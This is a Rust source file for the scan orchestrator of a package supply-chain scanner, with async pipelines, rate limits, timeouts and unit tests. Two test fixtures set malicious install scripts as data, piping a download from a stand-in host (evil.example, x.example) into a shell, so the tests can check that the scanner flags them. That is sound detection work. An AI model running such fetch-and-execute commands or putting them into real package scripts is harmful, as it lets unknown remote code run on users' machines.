//! Scan orchestration.
//!
//! A scan moves through `Pending -> Running -> Completed | TimedOut`. While
//! running, every package gets its own pipeline:
//!
//! 1. fetch registry metadata and the local artifact (in parallel)
//! 2. run every detector whose required input is available (in parallel)
//! 3. report the package as settled
//!
//! Every fetch and every detector evaluation is one task. Tasks share a
//! bounded worker pool (a semaphore), each task has its own timeout, and
//! registry and vulnerability database calls pass through a per-source token
//! bucket. Results stream back over a channel as they arrive, so a scan-wide
//! timeout still keeps everything that finished in time.
//!
//! A failure never leaves the task that produced it: it becomes an
//! [`ExecutionError`] on the package's verdict.

mod cache;
mod limiter;
mod scoring;

pub use cache::{CachedVulnDb, ScanCache};
pub use limiter::TokenBucket;
pub use scoring::{classify, compare_findings, score, sort_findings, RiskAggregator};

use std::collections::HashSet;
use std::future::Future;
use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, Utc};
use tokio::sync::{mpsc, Semaphore};
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::config::Config;
use crate::detector::{standard_detectors, Detector, DetectorInput};
use crate::error::{ConfigError, ScanError, SourceError};
use crate::model::{
    ErrorKind, ExecutionError, Finding, PackageRef, PackageVerdict, ScanReport, ScanStatus,
};
use crate::similarity::SimilarityIndex;
use crate::sources::{RegistryClient, VulnDbClient};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScanState {
    Pending,
    Running,
    Completed,
    TimedOut,
}

/// One project's packages and the registry that serves its installed copies.
pub struct ProjectScan {
    /// Label copied onto every verdict, usually the project path.
    pub name: String,
    pub registry: Arc<dyn RegistryClient>,
    pub packages: Vec<PackageRef>,
}

/// Runs the detector battery over a package set. Reusable across scans: the
/// rate limiters are shared by every scan, caches are per scan.
pub struct Orchestrator {
    config: Config,
    registry: Arc<dyn RegistryClient>,
    vulndb: Arc<dyn VulnDbClient>,
    index: Arc<SimilarityIndex>,
    extra_detectors: Vec<Arc<dyn Detector>>,
    registry_limiter: Arc<TokenBucket>,
    vulndb_limiter: Arc<TokenBucket>,
    aggregator: RiskAggregator,
}

impl Orchestrator {
    /// Validates `config` and loads the popular-name index. Nothing is
    /// scheduled when this fails.
    pub fn new(
        config: Config,
        registry: Arc<dyn RegistryClient>,
        vulndb: Arc<dyn VulnDbClient>,
    ) -> Result<Self, ConfigError> {
        config.validate()?;

        let radius = config.typosquat.max_distance();
        let index = match &config.typosquat.popular_packages_file {
            Some(path) => SimilarityIndex::from_file(path, radius).map_err(|source| ConfigError::Io {
                path: path.clone(),
                source,
            })?,
            None => SimilarityIndex::bundled(radius),
        };
        tracing::debug!(names = index.len(), radius, "Loaded popular package index");

        let rate = config.engine.per_source_rate_limit;
        Ok(Self {
            registry_limiter: Arc::new(TokenBucket::new("registry", rate)),
            vulndb_limiter: Arc::new(TokenBucket::new("vulndb", rate)),
            aggregator: RiskAggregator::new(config.scoring.clone()),
            index: Arc::new(index),
            extra_detectors: Vec::new(),
            config,
            registry,
            vulndb,
        })
    }

    /// Replaces the popular-name index.
    pub fn with_similarity_index(mut self, index: SimilarityIndex) -> Self {
        self.index = Arc::new(index);
        self
    }

    /// Adds a detector to the built-in five.
    pub fn with_detector(mut self, detector: Arc<dyn Detector>) -> Self {
        self.extra_detectors.push(detector);
        self
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    fn build_detectors(&self, cache: &Arc<ScanCache>) -> Result<Vec<Arc<dyn Detector>>, ConfigError> {
        let vulndb: Arc<dyn VulnDbClient> = Arc::new(CachedVulnDb::new(
            Arc::clone(&self.vulndb),
            Arc::clone(cache),
            Arc::clone(&self.vulndb_limiter),
        ));
        let mut detectors = standard_detectors(&self.config, Arc::clone(&self.index), vulndb)?;
        detectors.extend(self.extra_detectors.iter().cloned());
        Ok(detectors)
    }

    /// Scans `packages`. Duplicates are folded; the report holds exactly one
    /// verdict per distinct package, in input order.
    ///
    /// Only a configuration problem is returned as `Err`. Source failures and
    /// timeouts are recorded in the report.
    pub async fn run(&self, packages: Vec<PackageRef>) -> Result<ScanReport, ScanError> {
        let deadline = Instant::now() + self.config.engine.scan_timeout();
        self.run_until(Arc::clone(&self.registry), packages, deadline).await
    }

    /// Scans several projects, one after another, under a single scan-wide
    /// deadline. Each project reads installed copies through its own
    /// registry, so two projects that lock the same `name@version` to
    /// different artifacts are each checked against their own copy.
    pub async fn run_projects(&self, projects: Vec<ProjectScan>) -> Result<ScanReport, ScanError> {
        let started_at = Utc::now();
        let deadline = Instant::now() + self.config.engine.scan_timeout();
        let detectors = self
            .build_detectors(&Arc::new(ScanCache::new()))?
            .iter()
            .map(|d| d.name().to_string())
            .collect();

        let mut status = ScanStatus::Completed;
        let mut verdicts = Vec::new();
        for project in projects {
            tracing::info!(project = %project.name, packages = project.packages.len(), "Scanning project");
            let report = self
                .run_until(project.registry, project.packages, deadline)
                .await?;
            if report.status == ScanStatus::TimedOut {
                status = ScanStatus::TimedOut;
            }
            verdicts.extend(report.verdicts.into_iter().map(|mut verdict| {
                verdict.project = Some(project.name.clone());
                verdict
            }));
        }

        let errors: Vec<ExecutionError> = verdicts
            .iter()
            .flat_map(|v| v.errors.iter().cloned())
            .collect();
        let project = self.aggregator.summarize(&verdicts);

        Ok(ScanReport {
            started_at,
            finished_at: Utc::now(),
            status,
            detectors,
            verdicts,
            project,
            errors,
        })
    }

    async fn run_until(
        &self,
        registry: Arc<dyn RegistryClient>,
        packages: Vec<PackageRef>,
        deadline: Instant,
    ) -> Result<ScanReport, ScanError> {
        let started_at = Utc::now();
        let mut state = ScanState::Pending;

        let mut seen = HashSet::new();
        let packages: Vec<PackageRef> = packages
            .into_iter()
            .filter(|p| seen.insert(p.clone()))
            .collect();

        let cache = Arc::new(ScanCache::new());
        let detectors = self.build_detectors(&cache)?;
        let detector_names: Vec<String> = detectors.iter().map(|d| d.name().to_string()).collect();
        let scan_timeout = self.config.engine.scan_timeout();

        let ctx = Arc::new(ScanContext {
            registry,
            registry_limiter: Arc::clone(&self.registry_limiter),
            cache,
            detectors,
            permits: Arc::new(Semaphore::new(self.config.engine.effective_concurrency())),
            task_timeout: self.config.engine.task_timeout(),
            started_at,
        });

        transition(&mut state, ScanState::Running);
        tracing::info!(
            packages = packages.len(),
            detectors = detector_names.len(),
            concurrency = self.config.engine.effective_concurrency(),
            "Scan started"
        );

        let (tx, mut rx) = mpsc::unbounded_channel();
        let mut tasks = JoinSet::new();
        for (index, package) in packages.iter().enumerate() {
            tasks.spawn(evaluate_package(
                Arc::clone(&ctx),
                index,
                Arc::new(package.clone()),
                tx.clone(),
            ));
        }
        drop(tx);

        let mut slots: Vec<PackageSlot> = packages.iter().map(|_| PackageSlot::default()).collect();
        let deadline = tokio::time::sleep_until(deadline);
        tokio::pin!(deadline);

        let timed_out = loop {
            tokio::select! {
                biased;
                event = rx.recv() => match event {
                    Some(event) => apply(&mut slots, event),
                    None => break false,
                },
                _ = &mut deadline => break true,
            }
        };

        if timed_out {
            tasks.abort_all();
            rx.close();
            transition(&mut state, ScanState::TimedOut);
            let err = ScanError::Timeout {
                scope: "scan".to_string(),
                after: scan_timeout,
            };
            for (slot, package) in slots.iter_mut().zip(&packages) {
                if !slot.settled {
                    slot.errors.push(execution_error("scan", package, None, &err));
                }
            }
        } else {
            transition(&mut state, ScanState::Completed);
            let err = ScanError::Internal("evaluation ended before all checks reported".to_string());
            for (slot, package) in slots.iter_mut().zip(&packages) {
                if !slot.settled {
                    slot.errors.push(execution_error("scan", package, None, &err));
                }
            }
        }

        while let Some(joined) = tasks.join_next().await {
            if let Err(e) = joined {
                if e.is_panic() {
                    tracing::error!(error = %e, "Package evaluation task panicked");
                }
            }
        }

        let verdicts: Vec<PackageVerdict> = packages
            .into_iter()
            .zip(slots)
            .map(|(package, slot)| self.aggregator.verdict(package, slot.findings, slot.errors))
            .collect();
        let errors: Vec<ExecutionError> = verdicts
            .iter()
            .flat_map(|v| v.errors.iter().cloned())
            .collect();
        let project = self.aggregator.summarize(&verdicts);

        tracing::info!(
            packages = project.total_packages,
            findings = project.total_findings,
            errors = errors.len(),
            classification = %project.classification,
            "Scan finished"
        );

        Ok(ScanReport {
            started_at,
            finished_at: Utc::now(),
            status: if state == ScanState::TimedOut {
                ScanStatus::TimedOut
            } else {
                ScanStatus::Completed
            },
            detectors: detector_names,
            verdicts,
            project,
            errors,
        })
    }
}

fn transition(state: &mut ScanState, next: ScanState) {
    tracing::debug!(from = ?state, to = ?next, "Scan state");
    if next == ScanState::TimedOut {
        tracing::warn!("Scan timed out; building verdicts from results received so far");
    }
    *state = next;
}

/// Everything a package pipeline needs, shared by all pipelines of one scan.
struct ScanContext {
    registry: Arc<dyn RegistryClient>,
    registry_limiter: Arc<TokenBucket>,
    cache: Arc<ScanCache>,
    detectors: Vec<Arc<dyn Detector>>,
    permits: Arc<Semaphore>,
    task_timeout: Duration,
    started_at: DateTime<Utc>,
}

impl ScanContext {
    /// Runs one task inside the worker pool and under the per-task timeout.
    /// Waiting for a worker does not count against the timeout.
    async fn run_task<T, Fut>(&self, scope: String, fut: Fut) -> Result<T, ScanError>
    where
        Fut: Future<Output = Result<T, SourceError>>,
    {
        let _permit = self
            .permits
            .acquire()
            .await
            .map_err(|_| ScanError::Internal("worker pool closed".to_string()))?;

        match tokio::time::timeout(self.task_timeout, fut).await {
            Ok(result) => result.map_err(ScanError::from),
            Err(_) => Err(ScanError::Timeout {
                scope,
                after: self.task_timeout,
            }),
        }
    }
}

enum Event {
    Findings {
        index: usize,
        findings: Vec<Finding>,
    },
    Error {
        index: usize,
        error: ExecutionError,
    },
    Settled {
        index: usize,
    },
}

#[derive(Default)]
struct PackageSlot {
    findings: Vec<Finding>,
    errors: Vec<ExecutionError>,
    settled: bool,
}

fn apply(slots: &mut [PackageSlot], event: Event) {
    match event {
        Event::Findings { index, findings } => slots[index].findings.extend(findings),
        Event::Error { index, error } => slots[index].errors.push(error),
        Event::Settled { index } => slots[index].settled = true,
    }
}

fn execution_error(
    source: &str,
    package: &PackageRef,
    detector: Option<&str>,
    err: &ScanError,
) -> ExecutionError {
    let kind = match err {
        ScanError::Source(_) => ErrorKind::ExternalSource,
        ScanError::Timeout { .. } => ErrorKind::Timeout,
        ScanError::Config(_) | ScanError::Internal(_) => ErrorKind::Internal,
    };
    ExecutionError {
        source: source.to_string(),
        package: Some(package.key()),
        detector: detector.map(str::to_string),
        kind,
        message: err.to_string(),
    }
}

async fn evaluate_package(
    ctx: Arc<ScanContext>,
    index: usize,
    package: Arc<PackageRef>,
    tx: mpsc::UnboundedSender<Event>,
) {
    // Sends only fail once the scan has given up on this package.
    let send = |event: Event| {
        let _ = tx.send(event);
    };
    let key = package.key();

    let metadata = ctx.run_task(
        format!("registry metadata for {}", key),
        ctx.cache.metadata(&package, || async {
            ctx.registry_limiter.acquire().await;
            ctx.registry.fetch_metadata(&package).await
        }),
    );
    let artifact = ctx.run_task(
        format!("local artifact for {}", key),
        ctx.cache
            .artifact(&package, || ctx.registry.fetch_local_artifact(&package)),
    );
    let (metadata, artifact) = tokio::join!(metadata, artifact);

    let metadata = match metadata {
        Ok(metadata) => Some(metadata),
        Err(e) => {
            tracing::warn!(package = %key, error = %e, "Registry metadata unavailable");
            send(Event::Error {
                index,
                error: execution_error("registry", &package, None, &e),
            });
            None
        }
    };
    let artifact = match artifact {
        Ok(artifact) => Some(artifact),
        Err(e) => {
            tracing::debug!(package = %key, error = %e, "Local artifact unavailable");
            send(Event::Error {
                index,
                error: execution_error("local", &package, None, &e),
            });
            None
        }
    };

    let input = DetectorInput {
        package: Arc::clone(&package),
        metadata,
        artifact,
        scan_started_at: ctx.started_at,
    };
    let has_metadata = input.metadata.is_some();
    let has_artifact = input.artifact.is_some();

    let runs = ctx
        .detectors
        .iter()
        .filter(|detector| {
            let runnable = detector
                .requirement()
                .is_satisfied(has_metadata, has_artifact);
            if !runnable {
                tracing::debug!(package = %key, detector = detector.name(), "Skipped: required input missing");
            }
            runnable
        })
        .map(|detector| {
            let input = &input;
            let key = &key;
            let ctx = &ctx;
            let send = &send;
            async move {
                let name = detector.name();
                let scope = format!("detector {} for {}", name, key);
                match ctx.run_task(scope, detector.evaluate(input)).await {
                    Ok(findings) => {
                        let (own, foreign): (Vec<Finding>, Vec<Finding>) = findings
                            .into_iter()
                            .partition(|f| f.package == *input.package);
                        if !foreign.is_empty() {
                            tracing::error!(package = %key, detector = name, count = foreign.len(), "Detector reported on another package");
                            let err = ScanError::Internal(format!(
                                "detector {} returned {} finding(s) for packages it was not invoked on",
                                name,
                                foreign.len()
                            ));
                            send(Event::Error {
                                index,
                                error: execution_error(name, &input.package, Some(name), &err),
                            });
                        }
                        tracing::debug!(package = %key, detector = name, findings = own.len(), "Detector finished");
                        send(Event::Findings {
                            index,
                            findings: own,
                        });
                    }
                    Err(e) => {
                        tracing::warn!(package = %key, detector = name, error = %e, "Detector failed");
                        send(Event::Error {
                            index,
                            error: execution_error(name, &input.package, Some(name), &e),
                        });
                    }
                }
            }
        });
    futures::future::join_all(runs).await;

    send(Event::Settled { index });
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{
        Advisory, Classification, Digest, DigestAlgorithm, FindingKind, LocalArtifact,
        PackageMetadata, Release, Severity,
    };
    use async_trait::async_trait;
    use base64::engine::general_purpose::STANDARD;
    use base64::Engine as _;
    use std::collections::HashMap;
    use std::sync::atomic::{AtomicUsize, Ordering};

    const REGISTRY: &str = "https://registry.npmjs.org";

    #[derive(Default)]
    struct FakeRegistry {
        metadata: HashMap<String, PackageMetadata>,
        artifacts: HashMap<String, LocalArtifact>,
        delays: HashMap<String, Duration>,
        fail_metadata: bool,
        calls: AtomicUsize,
    }

    #[async_trait]
    impl RegistryClient for FakeRegistry {
        async fn fetch_metadata(&self, package: &PackageRef) -> Result<PackageMetadata, SourceError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if let Some(delay) = self.delays.get(&package.key()) {
                tokio::time::sleep(*delay).await;
            }
            if self.fail_metadata {
                return Err(SourceError::Network("connection refused".into()));
            }
            self.metadata
                .get(&package.key())
                .cloned()
                .ok_or_else(|| SourceError::NotFound(package.key()))
        }

        async fn fetch_local_artifact(&self, package: &PackageRef) -> Result<LocalArtifact, SourceError> {
            self.artifacts
                .get(&package.key())
                .cloned()
                .ok_or_else(|| SourceError::FileMissing(package.key()))
        }
    }

    #[derive(Default)]
    struct FakeVulnDb {
        advisories: HashMap<String, Vec<Advisory>>,
        delays: HashMap<String, Duration>,
        fail: bool,
    }

    #[async_trait]
    impl VulnDbClient for FakeVulnDb {
        fn name(&self) -> &'static str {
            "fake"
        }

        async fn query(&self, _: &str, name: &str, version: &str) -> Result<Vec<Advisory>, SourceError> {
            let key = format!("{}@{}", name, version);
            if let Some(delay) = self.delays.get(&key) {
                tokio::time::sleep(*delay).await;
            }
            if self.fail {
                return Err(SourceError::Network("osv unreachable".into()));
            }
            Ok(self.advisories.get(&key).cloned().unwrap_or_default())
        }
    }

    fn digest() -> Digest {
        Digest::new(DigestAlgorithm::Sha512, STANDARD.encode([1u8; 64]))
    }

    fn package(name: &str, version: &str) -> PackageRef {
        PackageRef::new(name, version, REGISTRY)
    }

    /// Three old, evenly spaced releases with a matching published digest.
    fn quiet_metadata(version: &str) -> PackageMetadata {
        let now = Utc::now();
        let releases = vec![
            Release::new("0.0.1", now - chrono::Duration::days(300)),
            Release::new("0.0.2", now - chrono::Duration::days(200)),
            Release::new(version, now - chrono::Duration::days(100)),
        ];
        PackageMetadata {
            published_at: Some(releases[2].published_at),
            releases,
            published_digests: vec![digest()],
            ..Default::default()
        }
    }

    fn clean_artifact() -> LocalArtifact {
        LocalArtifact {
            digest: Some(digest()),
            ..Default::default()
        }
    }

    fn with_clean(registry: &mut FakeRegistry, package: &PackageRef) {
        registry
            .metadata
            .insert(package.key(), quiet_metadata(&package.version));
        registry.artifacts.insert(package.key(), clean_artifact());
    }

    fn orchestrator(config: Config, registry: Arc<FakeRegistry>, vulndb: FakeVulnDb) -> Orchestrator {
        Orchestrator::new(config, registry, Arc::new(vulndb))
            .unwrap()
            .with_similarity_index(SimilarityIndex::new(["lodash", "react"], 3))
    }

    #[tokio::test]
    async fn test_clean_package_passes() {
        let pkg = package("left-pad", "1.3.0");
        let mut registry = FakeRegistry::default();
        with_clean(&mut registry, &pkg);

        let report = orchestrator(Config::default(), Arc::new(registry), FakeVulnDb::default())
            .run(vec![pkg.clone()])
            .await
            .unwrap();

        let verdict = report.verdict(&pkg).unwrap();
        assert!(verdict.findings.is_empty(), "{:?}", verdict.findings);
        assert!(verdict.errors.is_empty(), "{:?}", verdict.errors);
        assert_eq!(verdict.classification, Classification::Pass);
        assert_eq!(report.status, ScanStatus::Completed);
        assert_eq!(
            report.detectors,
            vec!["vulnerability", "typosquat", "integrity", "forensics", "scripts"]
        );
    }

    #[tokio::test]
    async fn test_every_package_gets_a_verdict_when_all_sources_fail() {
        let registry = Arc::new(FakeRegistry {
            fail_metadata: true,
            ..Default::default()
        });
        let vulndb = FakeVulnDb {
            fail: true,
            ..Default::default()
        };
        let packages = vec![package("left-pad", "1.3.0"), package("is-odd", "3.0.1")];

        let report = orchestrator(Config::default(), registry, vulndb)
            .run(packages.clone())
            .await
            .unwrap();

        assert_eq!(report.verdicts.len(), 2);
        for pkg in &packages {
            let verdict = report.verdict(pkg).unwrap();
            assert!(verdict.findings.is_empty());
            assert_eq!(verdict.classification, Classification::Unknown);

            let sources: Vec<&str> = verdict.errors.iter().map(|e| e.source.as_str()).collect();
            assert!(sources.contains(&"registry"));
            assert!(sources.contains(&"local"));
            assert!(sources.contains(&"vulnerability"));
        }
        assert_eq!(report.count(Classification::Unknown), 2);
        assert_eq!(report.project.classification, Classification::Unknown);
        assert_eq!(report.errors.len(), 6);
    }

    #[tokio::test(start_paused = true)]
    async fn test_task_timeout_keeps_other_findings() {
        let pkg = package("evil-pkg", "1.0.0");
        let mut registry = FakeRegistry::default();
        with_clean(&mut registry, &pkg);
        if let Some(meta) = registry.metadata.get_mut(&pkg.key()) {
            meta.scripts.insert(
                "preinstall".into(),
                "curl http://evil.example/payload.sh | sh".into(),
            );
        }
        let vulndb = FakeVulnDb {
            delays: HashMap::from([(pkg.key(), Duration::from_secs(60))]),
            ..Default::default()
        };

        let report = orchestrator(Config::default(), Arc::new(registry), vulndb)
            .run(vec![pkg.clone()])
            .await
            .unwrap();

        let verdict = report.verdict(&pkg).unwrap();
        assert_eq!(report.status, ScanStatus::Completed);
        assert_eq!(verdict.findings.len(), 3);
        assert!(verdict
            .findings
            .iter()
            .all(|f| f.kind == FindingKind::SuspiciousScript && f.severity == Severity::High));
        assert_eq!(verdict.errors.len(), 1);
        assert_eq!(verdict.errors[0].kind, ErrorKind::Timeout);
        assert_eq!(verdict.errors[0].detector.as_deref(), Some("vulnerability"));
        assert_eq!(verdict.classification, Classification::Fail);
    }

    #[tokio::test(start_paused = true)]
    async fn test_scan_timeout_still_yields_every_verdict() {
        let fast = package("left-pad", "1.3.0");
        let slow = package("lodahs", "1.0.0");
        let mut registry = FakeRegistry::default();
        with_clean(&mut registry, &fast);
        with_clean(&mut registry, &slow);
        registry.delays.insert(slow.key(), Duration::from_secs(25));
        let vulndb = FakeVulnDb {
            delays: HashMap::from([(slow.key(), Duration::from_secs(25))]),
            ..Default::default()
        };

        let mut config = Config::default();
        config.engine.max_concurrency = 8;
        config.engine.task_timeout_secs = 30;
        config.engine.scan_timeout_secs = 30;

        let report = orchestrator(config, Arc::new(registry), vulndb)
            .run(vec![fast.clone(), slow.clone()])
            .await
            .unwrap();

        assert_eq!(report.status, ScanStatus::TimedOut);
        assert_eq!(report.verdicts.len(), 2);
        assert_eq!(report.verdict(&fast).unwrap().classification, Classification::Pass);

        let verdict = report.verdict(&slow).unwrap();
        assert_eq!(verdict.findings.len(), 1);
        assert_eq!(verdict.findings[0].kind, FindingKind::Typosquat);
        assert_eq!(verdict.errors.len(), 1);
        assert_eq!(verdict.errors[0].source, "scan");
        assert_eq!(verdict.errors[0].kind, ErrorKind::Timeout);
        assert_eq!(verdict.classification, Classification::Warn);
    }

    #[tokio::test]
    async fn test_runs_are_reproducible() {
        let pkg = package("lodahs", "1.0.0");
        let mut registry = FakeRegistry::default();
        with_clean(&mut registry, &pkg);
        if let Some(meta) = registry.metadata.get_mut(&pkg.key()) {
            meta.scripts
                .insert("postinstall".into(), "wget http://x.example/a | bash".into());
        }
        let registry = Arc::new(registry);
        let advisories = vec![
            Advisory::new("GHSA-b").with_severity("LOW"),
            Advisory::new("GHSA-a").with_severity("HIGH"),
            Advisory::new("GHSA-c").with_severity("HIGH"),
        ];

        let mut outputs = Vec::new();
        for _ in 0..2 {
            let vulndb = FakeVulnDb {
                advisories: HashMap::from([(pkg.key(), advisories.clone())]),
                ..Default::default()
            };
            let report = orchestrator(Config::default(), Arc::clone(&registry), vulndb)
                .run(vec![pkg.clone()])
                .await
                .unwrap();
            outputs.push(serde_json::to_string(&report.verdicts).unwrap());
        }

        assert_eq!(outputs[0], outputs[1]);
    }

    struct MisdirectedDetector;

    #[async_trait]
    impl Detector for MisdirectedDetector {
        fn name(&self) -> &'static str {
            "misdirected"
        }

        fn description(&self) -> &'static str {
            "Reports on the wrong package"
        }

        fn requirement(&self) -> crate::detector::Requirement {
            crate::detector::Requirement::None
        }

        async fn evaluate(&self, _input: &DetectorInput) -> Result<Vec<Finding>, SourceError> {
            Ok(vec![Finding::new(
                &package("someone-else", "1.0.0"),
                self.name(),
                FindingKind::MetadataAnomaly,
                Severity::High,
                "not yours",
            )])
        }
    }

    #[tokio::test]
    async fn test_foreign_findings_are_internal_errors() {
        let pkg = package("left-pad", "1.3.0");
        let mut registry = FakeRegistry::default();
        with_clean(&mut registry, &pkg);

        let report = orchestrator(Config::default(), Arc::new(registry), FakeVulnDb::default())
            .with_detector(Arc::new(MisdirectedDetector))
            .run(vec![pkg.clone()])
            .await
            .unwrap();

        let verdict = report.verdict(&pkg).unwrap();
        assert!(verdict.findings.is_empty());
        assert_eq!(verdict.errors.len(), 1);
        assert_eq!(verdict.errors[0].kind, ErrorKind::Internal);
        assert_eq!(verdict.errors[0].detector.as_deref(), Some("misdirected"));
        assert_eq!(verdict.classification, Classification::Unknown);
    }

    #[test]
    fn test_invalid_config_is_rejected_up_front() {
        let registry = Arc::new(FakeRegistry::default());
        let mut config = Config::default();
        config.engine.scan_timeout_secs = 0;

        let result = Orchestrator::new(config, registry.clone(), Arc::new(FakeVulnDb::default()));
        assert!(matches!(result, Err(ConfigError::Invalid { .. })));
        assert_eq!(registry.calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn test_duplicate_packages_get_one_verdict() {
        let pkg = package("left-pad", "1.3.0");
        let mut registry = FakeRegistry::default();
        with_clean(&mut registry, &pkg);
        let registry = Arc::new(registry);

        let report = orchestrator(Config::default(), Arc::clone(&registry), FakeVulnDb::default())
            .run(vec![pkg.clone(), pkg.clone()])
            .await
            .unwrap();

        assert_eq!(report.verdicts.len(), 1);
        assert_eq!(registry.calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_empty_input() {
        let report = orchestrator(
            Config::default(),
            Arc::new(FakeRegistry::default()),
            FakeVulnDb::default(),
        )
        .run(Vec::new())
        .await
        .unwrap();

        assert!(report.verdicts.is_empty());
        assert_eq!(report.project.classification, Classification::Pass);
        assert_eq!(report.status, ScanStatus::Completed);
    }

    #[tokio::test(start_paused = true)]
    async fn test_registry_calls_are_rate_limited() {
        let packages: Vec<PackageRef> = ["a-pkg", "b-pkg", "c-pkg", "d-pkg"]
            .iter()
            .map(|name| package(name, "1.0.0"))
            .collect();
        let mut registry = FakeRegistry::default();
        for pkg in &packages {
            with_clean(&mut registry, pkg);
        }
        let mut config = Config::default();
        config.engine.per_source_rate_limit = 1.0;
        config.engine.max_concurrency = 8;

        let start = Instant::now();
        let report = orchestrator(config, Arc::new(registry), FakeVulnDb::default())
            .run(packages)
            .await
            .unwrap();
        let elapsed = start.elapsed();

        // One token up front, then one per second for the other three.
        assert!(elapsed >= Duration::from_millis(2990), "{:?}", elapsed);
        assert!(elapsed < Duration::from_secs(5), "{:?}", elapsed);
        assert_eq!(report.count(Classification::Pass), 4);
        assert!(report.errors.is_empty(), "{:?}", report.errors);
    }

    #[tokio::test]
    async fn test_projects_are_checked_against_their_own_artifacts() {
        let pkg = package("lodash", "4.17.21");
        let mut first = FakeRegistry::default();
        with_clean(&mut first, &pkg);
        let mut second = FakeRegistry::default();
        with_clean(&mut second, &pkg);
        second.artifacts.insert(
            pkg.key(),
            LocalArtifact {
                digest: Some(Digest::new(DigestAlgorithm::Sha512, STANDARD.encode([2u8; 64]))),
                ..Default::default()
            },
        );
        let second: Arc<dyn RegistryClient> = Arc::new(second);

        let scanner = orchestrator(Config::default(), Arc::new(first), FakeVulnDb::default());
        let projects = vec![
            ProjectScan {
                name: "a".into(),
                registry: Arc::clone(&scanner.registry),
                packages: vec![pkg.clone()],
            },
            ProjectScan {
                name: "b".into(),
                registry: second,
                packages: vec![pkg.clone()],
            },
        ];
        let report = scanner.run_projects(projects).await.unwrap();

        assert_eq!(report.verdicts.len(), 2);
        let (a, b) = (&report.verdicts[0], &report.verdicts[1]);
        assert_eq!(a.project.as_deref(), Some("a"));
        assert_eq!(a.classification, Classification::Pass);
        assert_eq!(b.project.as_deref(), Some("b"));
        assert!(b
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::IntegrityMismatch && f.severity == Severity::Critical));
        assert_eq!(b.classification, Classification::Fail);
        assert_eq!(report.project.classification, Classification::Fail);
        assert_eq!(report.project.total_packages, 2);
        assert_eq!(report.status, ScanStatus::Completed);
        assert_eq!(report.detectors.len(), 5);
    }
}
